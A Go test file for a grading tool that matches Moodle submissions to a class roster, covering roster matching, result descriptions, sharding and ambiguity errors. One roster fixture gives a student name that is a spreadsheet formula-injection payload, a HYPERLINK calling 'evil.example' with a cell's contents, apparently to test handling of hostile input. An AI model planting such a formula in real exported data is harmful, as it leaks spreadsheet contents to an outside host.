package grader

import (
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestMatchRoster(t *testing.T) {
	d, err := OpenDownload(buildLayoutZip(t, "moodle.layout"), DefaultDownloadLimits)
	require.NoError(t, err)
	defer d.Close()
	ro, err := ReadRoster(filepath.Join(lmsDir, "roster_moodle.csv"))
	require.NoError(t, err)
	plain := PlainSubmission(filepath.Join(corpusDir, "correct"))
	c, err := MatchRoster(append(d.Submissions, plain), ro)
	require.NoError(t, err)

	type member struct {
		student, name, email, key string
		rostered                  bool
	}
	var got []member
	for _, m := range c.Members {
		got = append(got, member{m.Student, m.Name, m.Email, m.Key, m.Rostered})
	}
	assert.Equal(t, []member{
		{"100099", "Unknown Student", "", "100099", false},
		{"correct", "", "", "correct", false},
		{"s2024001", "山田 太郎", "taro.yamada@example.ac.jp", "100001", true},
		{"s2024002", "鈴木 花子", "hanako.suzuki@example.ac.jp", "100002", true},
		{"s2024003", `=HYPERLINK("http://evil.example/?"&A1,"click")`, "evil@example.ac.jp", "100003", true},
	}, got)
	var unmatched []string
	for _, m := range c.Unmatched {
		unmatched = append(unmatched, m.Key)
	}
	assert.ElementsMatch(t, []string{"100099", "correct"}, unmatched)
	require.Len(t, c.NotSubmitted, 1)
	assert.Equal(t, "s2024004", c.NotSubmitted[0].ID)

	t.Run("describe", func(t *testing.T) {
		r := &StudentResult{Student: "s2024001", Path: "/tmp/x", Flags: []Flag{FlagLate}}
		m := c.Members[2]
		m.Describe(r)
		assert.Equal(t, "s2024001", r.Student)
		assert.Equal(t, "山田 太郎", r.Name)
		assert.Equal(t, "taro.yamada@example.ac.jp", r.Email)
		assert.True(t, r.Rostered)
		assert.Equal(t, "100001", r.Submission)
		assert.Equal(t, SchemeMoodle, r.Scheme)
		assert.Equal(t, d.Path, r.Path, "the download, not the temporary folder")
		assert.Len(t, r.Files, 4)
		assert.Empty(t, r.Flags, "not late now: the flag of an earlier run is removed")
		assert.Equal(t, "山田 太郎 (s2024001)", r.DisplayName())
	})
	t.Run("without a roster nothing is unmatched", func(t *testing.T) {
		c, err := MatchRoster(d.Submissions, nil)
		require.NoError(t, err)
		assert.Len(t, c.Members, 4)
		assert.Empty(t, c.Unmatched)
		assert.Empty(t, c.NotSubmitted)
		assert.Equal(t, "100001", c.Members[0].Student)
	})
	t.Run("shards split members and roster rows", func(t *testing.T) {
		seen := map[string]int{}
		notSubmitted := 0
		for i := range 3 {
			part := c.Shard(Shard{Index: i, Count: 3})
			for _, m := range part.Members {
				seen[m.Student]++
				assert.Equal(t, i, ShardOf(m.Student, 3))
			}
			notSubmitted += len(part.NotSubmitted)
		}
		assert.Len(t, seen, len(c.Members))
		for s, n := range seen {
			assert.Equal(t, 1, n, s)
		}
		assert.Equal(t, 1, notSubmitted)
	})
}

func TestMatchRosterRefusesAmbiguity(t *testing.T) {
	ro, err := ReadRoster(filepath.Join(lmsDir, "roster_moodle.csv"))
	require.NoError(t, err)
	tests := []struct {
		name string
		subs []*ClassSubmission
		err  string
	}{
		{"two submissions with one key", []*ClassSubmission{PlainSubmission("a/alice"), PlainSubmission("b/alice.ipynb")},
			`two submissions are named "alice": a/alice and b/alice.ipynb`},
		{"an unmatched key that is another student's id", []*ClassSubmission{PlainSubmission("x/s2024002")},
			`submission "s2024002" (x/s2024002) matches no roster row, and roster line 3 gives that id to 鈴木 花子`},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			_, err := MatchRoster(tc.subs, ro)
			require.Error(t, err)
			assert.Contains(t, err.Error(), tc.err)
		})
	}
}
